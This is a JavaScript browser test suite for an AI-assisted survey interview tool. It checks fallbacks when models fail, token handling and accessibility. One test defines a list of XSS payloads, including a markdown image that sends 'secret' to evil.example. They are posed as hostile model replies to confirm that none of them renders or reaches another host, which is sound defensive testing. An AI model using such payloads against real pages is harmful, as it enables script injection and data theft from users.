// Interviews with models: through the endpoint, through the page around, through the browser's own; and whatever of that
// fails, the interview goes on with the rules and says so.

import assert from 'node:assert/strict';
import test from 'node:test';
import { ANSWERS, answer, AXE, begin, box, stored, visit, erase } from './harness.mjs';
import { compose } from '../stub/replies.mjs';
import { endpoint, withModels } from './endpoint.mjs';

const said = (page) => page.locator('.said').allTextContents();
const NOT_OURS = [/Failed to load resource/];

/** Opens a page whose study has models, beside an endpoint. */
async function meet(t, { fate, mint, models, calls, expected = [], ...more } = {}) {
  const api = endpoint({ fate, mint });
  const met = await visit(t, { site: { api, alter: { 'study.json': withModels(models, calls), ...more.alter } }, expected: [...NOT_OURS, ...expected], ...more });
  return { ...met, api };
}

/** What the log says of each turn: who read, who worded, and why not. */
async function voices(page) {
  const { log } = await stored(page);
  return log.map(({ entry }) => JSON.parse(entry)).filter(({ entry }) => entry === 'read' || entry === 'asked')
    .map(({ entry, turn, source, calls = [] }) => ({ entry, turn, by: 'model' in source ? source.model.model : 'rules', failures: calls.map(({ failure }) => failure).filter(Boolean) }));
}

test('a question that stays with the answer is shown as the model worded it, and the panel says so', async (t) => {
  const question = 'What is that treat in the morning like for you?';
  const fate = ({ task }) => (task === 'question_followup' ? { output: JSON.stringify({ question, stays: true }) } : undefined);
  const { page } = await meet(t, { fate });
  await begin(page);
  await answer(page, ANSWERS[0]);
  await page.getByRole('heading', { name: question }).waitFor();
  await page.click('[data-act=how]');
  await page.getByText('The model asked on from the answer').waitFor();
});

test('models read the answers and word the questions, and the panel says so', async (t) => {
  const { page, api } = await meet(t);
  await begin(page);
  for (const text of ANSWERS.slice(0, 3)) await answer(page, text);
  assert.deepEqual(await said(page), ANSWERS.slice(0, 3));
  const heard = await voices(page);
  assert.deepEqual(heard.filter(({ entry }) => entry === 'read').map(({ by }) => by), ['analysis', 'analysis', 'analysis']);
  assert.deepEqual(heard.filter(({ entry, turn }) => entry === 'asked' && turn > 1).map(({ by }) => by), ['question', 'question', 'question']);
  assert.equal(api.seen.mints.length, 1);
  const { study, session, study_hash } = api.seen.mints[0];
  assert.equal(study, 'oat_milk');
  assert.match(session, /^[0-9a-f-]{36}$/);
  assert.match(study_hash, /^[0-9a-f]{64}$/);
  for (const { headers, body, turn } of api.seen.calls) {
    assert.match(headers['x-request-id'], /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    assert.equal(headers['x-turn'], String(turn));
    assert.deepEqual(Object.keys(body).sort(), ['context', 'deadline_ms', 'max_output', 'turn'], 'fields only, no prompt');
    assert.equal(headers.cookie, undefined);
  }
  assert.equal(new Set(api.seen.calls.map(({ headers }) => headers['x-request-id'])).size, api.seen.calls.length);
  await page.click('[data-act=how]');
  await page.click('#models');
  await page.locator('.voices').waitFor();
  const told = await page.locator('.view').innerText();
  assert.match(told, /A model read three of three answers; a model worded three of four questions/);
  assert.match(told, /\$0\.0023/);
});

test('a study without models asks nobody, and loads nothing for it', async (t) => {
  const api = endpoint();
  const { page, seen } = await visit(t, { site: { api } });
  await begin(page);
  await answer(page, ANSWERS[0]);
  assert.deepEqual(Object.values(api.seen).flat(), []);
  assert.deepEqual(seen.requests.filter((url) => /transport|edge\.js|studio/.test(url)), []);
});

for (const [name, fate, reason] of [
  ['a dead provider', () => ({ error: [503, 'unavailable', { kind: 'overloaded' }] }), 'overloaded'],
  ['an endpoint that cuts every connection', () => ({ cut: true }), 'transport'],
  ['an answer in HTML', () => ({ text: '<!doctype html><title>502</title><script>document.title = "taken"</script>' }), 'bad_output'],
  ['an answer without end', () => ({ text: 'x'.repeat(300_000) }), 'transport'],
  ['a budget that is spent', () => ({ error: [429, 'budget_exhausted'] }), 'budget_exhausted'],
]) {
  test(`${name}: the interview goes on with the rules and the log says why`, async (t) => {
    const { page, api } = await meet(t, { fate });
    await begin(page);
    for (const text of ANSWERS.slice(0, 3)) await answer(page, text);
    assert.deepEqual(await said(page), ANSWERS.slice(0, 3));
    const heard = await voices(page);
    assert.ok(heard.every(({ by }) => by === 'rules'));
    assert.equal(heard.find(({ entry }) => entry === 'read').failures[0], reason);
    assert.equal(await page.title(), 'Oat milk');
    if (reason === 'budget_exhausted') assert.equal(api.seen.calls.length, 1, 'no further call in this session');
    await page.click('[data-act=how]');
    await page.click('#models');
    await page.locator('.voices small').first().waitFor();
  });
}

test('a host without an endpoint is asked once, and the interview is held by rules', async (t) => {
  const { page, seen } = await visit(t, { site: { alter: { 'study.json': withModels() } }, expected: NOT_OURS });
  await begin(page);
  for (const text of ANSWERS.slice(0, 2)) await answer(page, text);
  assert.equal(seen.requests.filter((url) => url.includes('/api/v1/')).length, 1);
});

test('offline nobody is asked and nobody waits', async (t) => {
  const { page, api, context } = await meet(t);
  await begin(page);
  await answer(page, ANSWERS[0]);
  const calls = api.seen.calls.length;
  await context.setOffline(true);
  await answer(page, ANSWERS[1]);
  await answer(page, ANSWERS[2]);
  assert.equal(api.seen.calls.length, calls);
  assert.ok((await voices(page)).filter(({ entry, turn }) => entry === 'read' && turn > 1).every(({ by, failures }) => by === 'rules' && failures[0] === 'unavailable'));
  await context.setOffline(false);
  await answer(page, ANSWERS[3]);
  assert.ok(api.seen.calls.length > calls, 'back online, the models are asked again');
});

test('a model that never replies holds the respondent no longer than the turn’s budget', async (t) => {
  const { page } = await meet(t, { fate: () => ({ hold: true }), calls: { turn_budget_ms: 2000 } });
  await begin(page);
  const began = Date.now();
  await answer(page, ANSWERS[0]);
  assert.ok(Date.now() - began < 6000, `${Date.now() - began} ms`);
  assert.equal((await voices(page)).find(({ entry }) => entry === 'read').failures[0], 'timeout_total');
});

test('a token that has expired is renewed, once, and the call is made again', async (t) => {
  const { page, api } = await meet(t);
  await begin(page);
  await answer(page, ANSWERS[0]);
  api.expire();
  await answer(page, ANSWERS[1]);
  assert.equal(api.seen.renewals.length, 1);
  assert.equal(api.seen.mints.length, 1);
  assert.ok((await voices(page)).filter(({ entry }) => entry === 'read').every(({ by }) => by === 'analysis'));
});

test('after a reload the interview goes on with the endpoint, and the token was nowhere on the device', async (t) => {
  const { page, api } = await meet(t);
  await begin(page);
  await answer(page, ANSWERS[0]);
  const kept = JSON.stringify(await stored(page)) + JSON.stringify(await page.evaluate(() => [{ ...localStorage }, { ...sessionStorage }, document.cookie]));
  assert.ok(!kept.includes('v1.'), 'no token is stored');
  await page.reload();
  await box(page).waitFor();
  await answer(page, ANSWERS[1]);
  assert.ok((await voices(page)).filter(({ entry }) => entry === 'read').every(({ by }) => by === 'analysis'));
  assert.equal(api.seen.mints.at(-1).session, undefined);
});

test('a reload in the middle of a call asks the same again', async (t) => {
  let isHeld = true;
  const { page, api } = await meet(t, { fate: ({ turn }) => (isHeld && turn === 2 ? { hold: true } : undefined) });
  await begin(page);
  await answer(page, ANSWERS[0]);
  await box(page).fill(ANSWERS[1]);
  await box(page).press('Control+Enter');
  await page.locator('.waiting').waitFor();
  await until(() => api.seen.calls.some(({ turn }) => turn === 2));
  isHeld = false;
  const [first] = api.seen.calls.filter(({ turn }) => turn === 2);
  await page.reload();
  await page.locator('textarea[data-box="answer-3"]').waitFor();
  assert.deepEqual(await said(page), ANSWERS.slice(0, 2));
  const again = api.seen.calls.filter(({ turn, task }) => turn === 2 && task === first.task).slice(0, 2);
  assert.deepEqual(again.map(({ body }) => body), [first.body, first.body]);
  assert.equal(again[1].headers['x-request-id'], first.headers['x-request-id'], 'under the same id');
});

test('an edited answer is read by the model again, with a wait of its own', async (t) => {
  const { page, api } = await meet(t, { calls: { turn_budget_ms: 2000 } });
  await begin(page);
  await answer(page, ANSWERS[0]);
  await new Promise((over) => setTimeout(over, 2200));
  await page.click('[data-act=edit]');
  await box(page).fill(ANSWERS[1]);
  await box(page).press('Control+Enter');
  await until(async () => (await voices(page)).filter(({ entry }) => entry === 'read').length === 2);
  await page.locator('textarea[data-box="answer-2"]').waitFor();
  assert.deepEqual((await voices(page)).filter(({ entry }) => entry === 'read').map(({ by }) => by), ['analysis', 'analysis']);
  assert.equal(api.seen.calls.filter(({ task }) => task === 'turn_analysis').length, 2);
});

test('stopping in the middle of a call ends the interview at once', async (t) => {
  const { page, api } = await meet(t, { fate: ({ turn }) => (turn === 2 ? { hold: true } : undefined) });
  await begin(page);
  await answer(page, ANSWERS[0]);
  await box(page).fill(ANSWERS[1]);
  await box(page).press('Control+Enter');
  await page.locator('.waiting').waitFor();
  await until(() => api.seen.calls.some(({ turn }) => turn === 2));
  await page.click('[data-act=stop]');
  await page.locator('[data-act=stopKeep]').waitFor();
  await page.click('[data-act=stopKeep]');
  await page.locator('.last').waitFor();
  const { log } = await stored(page);
  const inputs = log.map(({ entry }) => JSON.parse(entry)).filter(({ entry }) => entry === 'input').map(({ type }) => type);
  assert.deepEqual(inputs.filter((type) => type !== 'replies'), ['start', 'answer', 'answer', 'stop']);
  assert.ok(log.every(({ settled }) => settled));
});

test('deleting everything in the middle of a call leaves nothing, here or there', async (t) => {
  const { page, api } = await meet(t, { fate: ({ turn }) => (turn === 1 ? { hold: true } : undefined) });
  await begin(page);
  await box(page).fill(ANSWERS[0]);
  await box(page).press('Control+Enter');
  await page.locator('.waiting').waitFor();
  await until(() => api.seen.calls.length > 0);
  await page.click('[data-act=stop]');
  await erase(page);
  await page.locator('[data-act=anew]').waitFor();
  assert.deepEqual(await stored(page), { sessions: [], log: [], drafts: [], studies: [] });
  await until(() => api.seen.ends.length === 1);
});

test('whether to stop may be asked while models are, and their reply does not answer it', async (t) => {
  let go = false;
  const { page } = await meet(t, { fate: ({ turn }) => (turn === 1 && !go ? { ms: 1500 } : undefined) });
  await begin(page);
  await box(page).fill(ANSWERS[0]);
  await box(page).press('Control+Enter');
  await page.locator('.waiting').waitFor();
  await page.click('[data-act=stop]');
  go = true;
  await until(async () => (await voices(page)).some(({ entry, turn }) => entry === 'asked' && turn === 2));
  await page.locator('[data-act=goOn]').waitFor();
  await page.click('[data-act=goOn]');
  await page.locator('textarea[data-box="answer-2"]').waitFor();
});

test('the wait is heard once it is one, in a region of its own, and is accessible', async (t) => {
  const { page } = await meet(t, { fate: ({ turn }) => (turn === 1 ? { ms: 3000 } : undefined), context: { bypassCSP: true } });
  await begin(page);
  await box(page).fill(ANSWERS[0]);
  await page.evaluate(() => {
    globalThis.heard = [];
    const root = document.querySelector('querent-interview').shadowRoot;
    new MutationObserver(() => {
      const text = root.querySelector('[role=status][data-key=wait]')?.textContent;
      if (text && globalThis.heard.at(-1) !== text) globalThis.heard.push(text);
    }).observe(root, { subtree: true, childList: true, characterData: true });
  });
  await box(page).press('Control+Enter');
  await page.locator('.waiting').waitFor();
  assert.equal(await page.locator('[data-key=wait]').textContent(), '', 'a quick reply says nothing');
  await page.locator('[data-key=wait]', { hasText: 'Reading your answer' }).waitFor({ state: 'attached' });
  assert.deepEqual(await violations(page), []);
  assert.equal(await page.evaluate(() => document.querySelector('querent-interview').shadowRoot.activeElement?.dataset.box), 'waiting', 'the focus stays in the box');
  await page.locator('textarea[data-box="answer-2"]').waitFor();
  assert.deepEqual(await page.evaluate(() => globalThis.heard), ['Reading your answer']);
  assert.equal(await page.locator('[data-key=wait]').count(), 0);
});

/** Lets the page's transport be answered by a function of this test. */
async function hosted(t, reply, more = {}) {
  const asked = [];
  const met = await meet(t, {
    models: ['host'],
    ...more,
    before: async (context) => {
      await context.exposeFunction('replyOf', (task) => asked.push(task) && reply(task));
      await context.addInitScript(() => addEventListener('DOMContentLoaded', () => {
        document.querySelector('querent-interview').transport = (task) => globalThis.replyOf(task);
      }));
    },
  });
  return { ...met, asked };
}

const SYSTEM = JSON.stringify({ node_types: ['attribute', 'functional_consequence'], edge_types: ['leads_to'] });

test('the page around may ask a model itself, with the prompt in its hands', async (t) => {
  let calls = 0;
  const { page, asked: tasks, api } = await hosted(t, ({ request }) => ({
    output: compose({ task: request.task, json: request.task === 'turn_analysis', system: SYSTEM, user: JSON.stringify(request.context) }, { obey: false, turn: ++calls }),
    model: 'mine', usage: { input: 10, output: 5 },
  }));
  await begin(page);
  await answer(page, ANSWERS[0]);
  await answer(page, ANSWERS[1]);
  const heard = await voices(page);
  assert.deepEqual(heard.filter(({ turn, entry }) => entry === 'read' || turn > 1).map(({ by }) => by), ['mine', 'mine', 'mine', 'mine']);
  assert.deepEqual(api.seen.mints, [], 'a study whose model is the host asks no endpoint');
  for (const { request, prompt } of tasks) {
    assert.ok(prompt.system.length > 100 && prompt.user.length > 20, request.task);
    assert.ok(prompt.max_output > 0);
  }
  assert.ok(tasks.some(({ prompt }) => prompt.user.includes('The barista one froths properly')));
  const [tag] = /<[^>]*([0-9a-f]{16})[^>]*>/.exec(tasks[0].prompt.user) ?? [];
  assert.ok(!tag || !tasks[1].prompt.user.includes(tag), 'the marks around respondents’ words differ from call to call');
});

for (const [what, reply, reason] of [
  ['throws', () => { throw new Error('no'); }, 'transport'],
  ['gives nothing', () => undefined, 'bad_output'],
  ['gives an object without text', () => ({ output: { toString: 'x' } }), 'bad_output'],
  ['never settles', () => new Promise(() => {}), 'timeout_total'],
]) {
  test(`a transport that ${what} is a failed call, no more`, async (t) => {
    const { page } = await hosted(t, reply, { calls: { turn_budget_ms: 1500 } });
    await begin(page);
    await answer(page, ANSWERS[0]);
    const [read] = (await voices(page)).filter(({ entry }) => entry === 'read');
    assert.deepEqual([read.by, read.failures[0]], ['rules', reason]);
  });
}

const ATTACKS = [
  '<img src=x onerror="globalThis.taken = true">', '<script>globalThis.taken = true</script>', '<svg onload="globalThis.taken = true">',
  '"><iframe srcdoc="<script>parent.taken = true</script>">', '<a href="javascript:globalThis.taken = true">What?</a>',
  '![x](https://evil.example/?q=secret) What do you mean?', '[click](javascript:alert(1)) What is it?', '<details open ontoggle="globalThis.taken = true">x?',
];

test('no reply of a model makes an element or asks another host', async (t) => {
  let at = 0;
  const output = ({ task, body }) => {
    const attack = ATTACKS[at++ % ATTACKS.length];
    if (task.startsWith('question')) return `${attack} What else comes to mind, and why?`;
    const quote = body.context.answer.slice(0, 12);
    return JSON.stringify({
      extractability: { extractable: true, reason: attack }, momentum: { level: 'neutral', indicators: [attack] },
      extraction: { nodes: [{ label: attack.slice(0, 80), node_type: 'attribute', quote, element_mapping: null, reaction: null, is_ambiguous: false, confidence: 0.9 }], edges: [] },
      signals: { response_depth: 3, specificity: 3, certainty: 3, emotional_valence: 3, engagement: 3, intellectual_engagement: 3, sentiment: 'neutral', topics: [attack], hedging: 'none' },
      ambiguity: { ambiguity: 0.1, reasoning: attack }, qualitative: null, language: 'en',
    });
  };
  const { page, seen } = await meet(t, { fate: (call) => ({ output: output(call) }) });
  await begin(page);
  await page.click('[data-act=how]');
  for (const text of ANSWERS.slice(0, 5)) {
    await answer(page, text);
    for (const tab of ['why', 'map', 'progress', 'models']) {
      await page.click(`#${tab}`);
      assert.equal(await page.locator('.shell :is(img, script, iframe, a[href^="javascript"], [onerror], [onload], [ontoggle])').count(), 0);
    }
    assert.equal(await page.locator('.question > *').count(), 0, 'a question is text');
  }
  assert.equal(await page.evaluate(() => globalThis.taken), undefined);
  assert.deepEqual(seen.elsewhere, []);
});

test('the model of the browser is offered, never fetched unasked, and asked one task at a time', async (t) => {
  const { page } = await meet(t, {
    models: ['browser'],
    before: (context) => context.addInitScript(builtIn),
  });
  await page.locator('[data-act=getModel]').waitFor();
  assert.equal(await page.evaluate(() => globalThis.built.created), 0, 'nothing is made before a word is said');
  await page.click('[data-act=getModel]');
  await page.locator('[data-act=getModel]').waitFor({ state: 'detached' });
  await begin(page);
  await answer(page, ANSWERS[0]);
  const { tasks, most, downloads, alive } = await page.evaluate(() => globalThis.built);
  assert.equal(downloads, 1);
  assert.equal(most, 1, 'one prompt at a time');
  assert.ok(tasks >= 2);
  assert.ok(alive <= 4, 'one session a task, and the copies are given back');
  const heard = await voices(page);
  assert.equal(heard.find(({ entry }) => entry === 'read').by, 'browser');
  assert.equal(heard.find(({ entry, turn }) => entry === 'asked' && turn === 2).by, 'browser');
});

test('without a word of the respondent the browser’s model is left alone', async (t) => {
  const { page } = await meet(t, { models: ['browser'], before: (context) => context.addInitScript(builtIn) });
  await page.locator('[data-act=getModel]').waitFor();
  await begin(page);
  await answer(page, ANSWERS[0]);
  assert.equal(await page.evaluate(() => globalThis.built.created), 0);
  assert.ok((await voices(page)).every(({ by }) => by === 'rules'));
});

/** In the page: a Prompt API as the browser has it, with a model of few words. */
function builtIn() {
  const built = (globalThis.built = { created: 0, tasks: 0, most: 0, now: 0, downloads: 0, alive: 0 });
  let availability = 'downloadable';
  const session = () => {
    built.alive += 1;
    return {
      clone: async () => session(),
      destroy: () => void (built.alive -= 1),
      prompt: async (input, { responseConstraint: schema }) => {
        built.tasks += 1;
        built.now += 1;
        built.most = Math.max(built.most, built.now);
        await new Promise((over) => setTimeout(over, 30));
        built.now -= 1;
        if (!schema) return 'What does that change for you on an ordinary morning?';
        const { properties = {} } = schema;
        if ('nodes' in properties) {
          return JSON.stringify({ nodes: [{ label: 'froths properly', node_type: 'attribute', quote: 'froths properly', element_mapping: null, reaction: 'positive', is_ambiguous: false, confidence: 0.9 }], edges: [] });
        }
        return 'level' in properties ? '{"level":"neutral","indicators":[]}' : 'no JSON at all';
      },
    };
  };
  globalThis.LanguageModel = {
    availability: async () => availability,
    create: async ({ monitor }) => {
      built.created += 1;
      if (availability !== 'available') {
        built.downloads += 1;
        const target = new EventTarget();
        monitor?.(target);
        target.dispatchEvent(Object.assign(new Event('downloadprogress'), { loaded: 0.5 }));
        availability = 'available';
      }
      return session();
    },
  };
}

async function violations(page) {
  await page.addScriptTag({ path: AXE });
  const { violations: found } = await page.evaluate(() => globalThis.axe.run());
  return found.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`);
}

/** Waits until something is so. */
async function until(holds) {
  const deadline = Date.now() + 10_000;
  while (!(await holds())) {
    assert.ok(Date.now() < deadline, 'it did not come to be within ten seconds');
    await new Promise((over) => setTimeout(over, 25));
  }
}
